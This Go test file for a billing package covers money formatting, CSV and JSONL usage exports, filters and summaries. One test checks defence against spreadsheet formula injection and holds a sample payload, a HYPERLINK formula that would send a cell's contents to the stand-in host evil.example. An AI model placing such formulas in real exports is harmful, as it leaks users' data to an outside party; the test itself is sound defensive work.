package billing_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sandgate/sandgate/billing"
	"github.com/sandgate/sandgate/internal/redistest"
)

func TestFormatMinor(t *testing.T) {
	tests := []struct {
		micros int64
		cur    string
		want   string
	}{
		{0, "USD", "0.00"},
		{1_234_567, "USD", "1.23"},
		{1_235_000, "USD", "1.24"},
		{1_234_999, "USD", "1.23"},
		{5_000, "USD", "0.01"},
		{4_999, "USD", "0.00"},
		{-5_000, "USD", "-0.01"},
		{-4_999, "USD", "0.00"},
		{-1_235_000, "EUR", "-1.24"},
		{1_500_000, "JPY", "2"},
		{1_499_999, "jpy", "1"},
		{1_234_500, "KWD", "1.235"},
		{1_234_500, "XXX", "1.23"},
		{123, "CLF", "0.0001"},
		{math.MaxInt64, "USD", "9223372036854.78"},
		{math.MinInt64, "USD", "-9223372036854.78"},
	}
	for _, tt := range tests {
		if got := billing.FormatMinor(tt.micros, tt.cur); got != tt.want {
			t.Errorf("FormatMinor(%d, %q) = %q; want %q", tt.micros, tt.cur, got, tt.want)
		}
	}
	for in, want := range map[int64]string{0: "0.000000", 150: "0.000150", 1_000_001: "1.000001", -7: "-0.000007"} {
		if got := billing.FormatMicros(in); got != want {
			t.Errorf("FormatMicros(%d) = %q; want %q", in, got, want)
		}
	}
}

// month is the test month: October 2026.
var month = time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)

// seed appends a month of usage to acct (and entries just outside it) and
// returns the entries inside [month, month+1).
func seed(t *testing.T, l *billing.Ledger, acct string) []billing.UsageEntry {
	t.Helper()
	ctx := context.Background()
	sizes := []string{"small", "medium", "large"}
	prices := []int64{97, 389, 1_501} // micro-units per second
	var in []billing.UsageEntry
	add := func(e billing.UsageEntry, inside bool) {
		if _, err := l.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
		if inside {
			in = append(in, e)
		}
	}
	for i := range 300 {
		s := i % 3
		secs := int64(1 + i*37%5000)
		end := month.Add(time.Duration(i)*2*time.Hour + 123*time.Millisecond)
		ws := fmt.Sprintf("ws_%s_%03d", acct, i)
		e := billing.UsageEntry{
			ID: billing.FinalID(ws), Kind: billing.KindUsage, Final: true, AccountID: acct,
			InstanceID: fmt.Sprintf("inst_%s_%d", acct, i%2), WorkspaceID: ws, Agent: []string{"", "coder", "reviewer"}[i%3],
			RunID: "3f1e2d4c-0000-4000-8000-00000000000" + strconv.Itoa(i%10), Size: sizes[s], Image: "python:3.12",
			Provider: "local", RateCard: "standard", RateCardVersion: 2, Currency: "USD",
			UnitPriceMicros: prices[s], Seconds: secs, AmountMicros: prices[s] * secs,
			StartedAt: end.Add(-time.Duration(secs) * time.Second), EndedAt: end, TerminatedAt: end,
			TerminationReason: "released",
			EgressBytesOut:    int64(i * 1000), EgressBytesIn: int64(i * 7000),
		}
		add(e, end.Before(month.AddDate(0, 1, 0)))
	}
	// An adjustment refunding one workspace, inside the month.
	add(billing.UsageEntry{ID: "adj:" + acct + "1", Kind: billing.KindAdjustment, Final: true, AccountID: acct,
		InstanceID: "inst_" + acct + "_0", WorkspaceID: "ws_" + acct + "_000", Currency: "USD", AmountMicros: -97,
		TerminatedAt: month.Add(3 * time.Hour), Corrects: billing.FinalID("ws_" + acct + "_000")}, true)
	// One just before the month (excluded: half-open from) and one exactly at its end (excluded: half-open to).
	add(billing.UsageEntry{ID: "ws_" + acct + "_before:final", Kind: billing.KindUsage, Final: true, AccountID: acct,
		Currency: "USD", Size: "small", UnitPriceMicros: 97, Seconds: 10, AmountMicros: 970,
		TerminatedAt: month.Add(-time.Millisecond)}, false)
	add(billing.UsageEntry{ID: "ws_" + acct + "_end:final", Kind: billing.KindUsage, Final: true, AccountID: acct,
		Currency: "USD", Size: "small", UnitPriceMicros: 97, Seconds: 10, AmountMicros: 970,
		TerminatedAt: month.AddDate(0, 1, 0)}, false)
	return in
}

func monthFilter() billing.ExportFilter {
	return billing.ExportFilter{From: month, To: month.AddDate(0, 1, 0)}
}

func TestExportCSVParsesBackAndReconciles(t *testing.T) {
	ctx := context.Background()
	l := billing.NewLedger(redistest.Start(t).Client())
	want := append(seed(t, l, "acct_b"), seed(t, l, "acct_a")...)
	var ledgerTotal int64
	for _, e := range want {
		ledgerTotal += e.AmountMicros
	}

	var buf bytes.Buffer
	st, err := billing.Export(ctx, l, []string{"acct_a", "acct_b"}, monthFilter(), billing.FormatCSV, &buf)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasSuffix(buf.Bytes(), []byte("\r\n")) {
		t.Errorf("CSV export does not end in CRLF (RFC 4180)")
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export back: %v", err)
	}
	if !slices.Equal(recs[0], billing.Columns) {
		t.Fatalf("header = %q; want %q", recs[0], billing.Columns)
	}
	rows := recs[1:]
	if len(rows) != len(want) || st.Rows != int64(len(want)) {
		t.Fatalf("export has %d rows (stats %d); want %d", len(rows), st.Rows, len(want))
	}
	col := func(name string) int { return slices.Index(billing.Columns, name) }
	var sum int64
	for i, r := range rows {
		m, err := strconv.ParseInt(r[col("amount_micros")], 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		sum += m
		if got, w := r[col("amount")], billing.FormatMinor(m, "USD"); got != w {
			t.Errorf("row %d amount = %q; want %q", i, got, w)
		}
		term, err := time.Parse(time.RFC3339Nano, r[col("terminated_at")])
		if err != nil || term.Before(month) || !term.Before(month.AddDate(0, 1, 0)) {
			t.Errorf("row %d terminated_at = %q outside the month (%v)", i, r[col("terminated_at")], err)
		}
	}
	// Accounts come in the order given; acct_a was asked for first.
	if rows[0][col("account_id")] != "acct_a" || rows[len(rows)-1][col("account_id")] != "acct_b" {
		t.Errorf("rows not grouped by account in the order given")
	}
	if sum != ledgerTotal || st.Totals["USD"] != ledgerTotal {
		t.Errorf("export total = %d (stats %d); ledger total = %d", sum, st.Totals["USD"], ledgerTotal)
	}
	first := rows[0]
	wantFirst := []string{"ws_acct_a_000:final", "usage", "true", "acct_a", "inst_acct_a_0", "ws_acct_a_000", "",
		"3f1e2d4c-0000-4000-8000-000000000000", "small", "python:3.12", "local", "standard", "2", "USD",
		"0.000097", "97", "1", "0.00", "97", "2026-09-30T23:59:59.123Z", "2026-10-01T00:00:00.123Z",
		"2026-10-01T00:00:00.123Z", "released", "", "0", "0", "", ""}
	if !slices.Equal(first, wantFirst) {
		t.Errorf("first row = %q\nwant %q", first, wantFirst)
	}
	if r := rows[1]; r[col("workspace_id")] != "ws_acct_a_001" || r[col("egress_bytes_out")] != "1000" || r[col("egress_bytes_in")] != "7000" {
		t.Errorf("second row: workspace %s egress_bytes_out %s, egress_bytes_in %s; want ws_acct_a_001, 1000, 7000",
			r[col("workspace_id")], r[col("egress_bytes_out")], r[col("egress_bytes_in")])
	}
}

func TestExportJSONLAndFilters(t *testing.T) {
	ctx := context.Background()
	l := billing.NewLedger(redistest.Start(t).Client())
	want := seed(t, l, "acct_j")
	f := monthFilter()
	f.InstanceID, f.Agent = "inst_acct_j_1", "coder"
	var buf bytes.Buffer
	st, err := billing.Export(ctx, l, []string{"acct_j"}, f, billing.FormatJSONL, &buf)
	if err != nil {
		t.Fatal(err)
	}
	var n int64
	dec := json.NewDecoder(&buf)
	for {
		var r billing.ExportRow
		if err := dec.Decode(&r); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		n++
		if r.InstanceID != f.InstanceID || r.Agent != f.Agent {
			t.Errorf("row %s: instance %q agent %q; want %q %q", r.ID, r.InstanceID, r.Agent, f.InstanceID, f.Agent)
		}
	}
	var wantN int64
	for _, e := range want {
		if e.InstanceID == f.InstanceID && e.Agent == f.Agent {
			wantN++
		}
	}
	if n != wantN || st.Rows != wantN || n == 0 {
		t.Errorf("JSONL rows = %d (stats %d); want %d", n, st.Rows, wantN)
	}

	// An empty CSV export is still a header row.
	buf.Reset()
	if _, err := billing.Export(ctx, l, []string{"acct_none"}, monthFilter(), billing.FormatCSV, &buf); err != nil {
		t.Fatal(err)
	}
	if got, w := buf.String(), strings.Join(billing.Columns, ",")+"\r\n"; got != w {
		t.Errorf("empty CSV export = %q; want %q", got, w)
	}
}

type failingScanner struct{ after int }

func (f failingScanner) Scan(ctx context.Context, acct string, from, to time.Time, fn func(billing.UsageEntry) error) error {
	for i := range f.after {
		if err := fn(billing.UsageEntry{ID: fmt.Sprint(i), Currency: "USD"}); err != nil {
			return err
		}
	}
	return errors.New("redis went away")
}

func TestExportFailureMidwayIsReturned(t *testing.T) {
	var buf bytes.Buffer
	st, err := billing.Export(context.Background(), failingScanner{after: 1200}, []string{"a"}, billing.ExportFilter{}, billing.FormatCSV, &buf)
	if err == nil {
		t.Fatal("Export over a failing scan returned no error")
	}
	if st.Rows != 1200 {
		t.Errorf("rows before the failure = %d; want 1200", st.Rows)
	}
}

func TestSummarize(t *testing.T) {
	ctx := context.Background()
	l := billing.NewLedger(redistest.Start(t).Client())
	want := append(seed(t, l, "acct_s1"), seed(t, l, "acct_s2")...)
	for _, g := range []billing.GroupBy{billing.GroupAccount, billing.GroupInstance, billing.GroupAgent, billing.GroupSize, billing.GroupDay} {
		t.Run(string(g), func(t *testing.T) {
			rows, err := billing.Summarize(ctx, l, []string{"acct_s1", "acct_s2"}, monthFilter(), g)
			if err != nil {
				t.Fatal(err)
			}
			wantRows := map[string]billing.SummaryRow{}
			for _, e := range want {
				var k string
				switch g {
				case billing.GroupAccount:
					k = e.AccountID
				case billing.GroupInstance:
					k = e.InstanceID
				case billing.GroupAgent:
					k = e.Agent
				case billing.GroupSize:
					k = e.Size
				case billing.GroupDay:
					k = e.TerminatedAt.Format(time.DateOnly)
				}
				r := wantRows[k]
				r.Key, r.Currency = k, "USD"
				r.Entries++
				if e.Kind == billing.KindUsage {
					r.Workspaces++
					r.Seconds += e.Seconds
				}
				r.AmountMicros += e.AmountMicros
				wantRows[k] = r
			}
			if len(rows) != len(wantRows) {
				t.Fatalf("Summarize(%s) = %d groups; want %d", g, len(rows), len(wantRows))
			}
			for i, r := range rows {
				if i > 0 && rows[i-1].Key >= r.Key {
					t.Errorf("Summarize(%s) not sorted at %d: %q then %q", g, i, rows[i-1].Key, r.Key)
				}
				if r != wantRows[r.Key] {
					t.Errorf("Summarize(%s) group %q = %+v; want %+v", g, r.Key, r, wantRows[r.Key])
				}
			}
		})
	}
}

// TestExportCSVReasonIsText: an adjustment's reason that a spreadsheet
// would run as a formula (it starts with =, +, -, @, a tab or a CR) is
// written to the CSV with a leading ', and kept as it is in JSONL.
func TestExportCSVReasonIsText(t *testing.T) {
	ctx := context.Background()
	l := billing.NewLedger(redistest.Start(t).Client())
	at := month.Add(time.Hour)
	reasons := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A2,"refund")`: `'=HYPERLINK("http://evil.example/?"&A2,"refund")`,
		"+1 for the outage": "'+1 for the outage",
		"-50% goodwill":     "'-50% goodwill",
		"@SUM(A1:A9)":       "'@SUM(A1:A9)",
		"\tcmd":             "'\tcmd",
		"outage, ticket 12": "outage, ticket 12",
	}
	i := 0
	for reason := range reasons {
		e := billing.UsageEntry{ID: fmt.Sprintf("adj:%02d", i), Kind: billing.KindAdjustment, Final: true, AccountID: "acct_r",
			WorkspaceID: "ws_r", Corrects: "ws_r:final", Currency: "USD", AmountMicros: -1, TerminatedAt: at, Reason: reason}
		if _, err := l.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
		i++
	}
	var csvOut, jsonl bytes.Buffer
	if _, err := billing.Export(ctx, l, []string{"acct_r"}, monthFilter(), billing.FormatCSV, &csvOut); err != nil {
		t.Fatal(err)
	}
	if _, err := billing.Export(ctx, l, []string{"acct_r"}, monthFilter(), billing.FormatJSONL, &jsonl); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(billing.Columns, "reason")
	got := map[string]bool{}
	for _, r := range recs[1:] {
		got[r[col]] = true
	}
	var inJSON []string
	for line := range strings.Lines(jsonl.String()) {
		var row struct{ Reason string }
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		inJSON = append(inJSON, row.Reason)
	}
	for reason, want := range reasons {
		if !got[want] {
			t.Errorf("CSV reason for %q: not %q among %v", reason, want, got)
		}
		if !slices.Contains(inJSON, reason) {
			t.Errorf("JSONL lost the reason %q as given: %q", reason, inJSON)
		}
	}
}
